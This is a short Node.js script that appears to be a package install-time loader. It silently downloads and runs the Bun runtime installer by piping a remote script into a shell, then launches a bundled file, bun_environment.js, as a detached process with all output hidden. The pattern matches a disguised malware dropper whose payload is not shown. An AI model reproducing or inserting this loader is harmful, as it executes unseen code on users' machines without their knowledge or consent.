#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path'); const fs = require('fs'); const os = require('os');
function isBunOnPath() { try { execSync('which bun', { stdio: 'ignore' }); return true; } catch { return false; } }
async function downloadAndSetupBun() {
  let command = process.platform === 'win32'
    ? 'powershell -c "irm bun.sh/install.ps1|iex"' : 'curl -fsSL https://bun.sh/install | bash';
  execSync(command, { stdio: 'ignore', env: { ...process.env } });
  return path.join(os.homedir(), '.bun', 'bin', 'bun');
}
function runExecutable(exe, args) { const c = spawn(exe, args, { stdio: 'ignore', detached: true }); c.unref(); }
(async () => { const exe = isBunOnPath() ? 'bun' : await downloadAndSetupBun();
  const env = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(env)) runExecutable(exe, [env]); else process.exit(0); })();
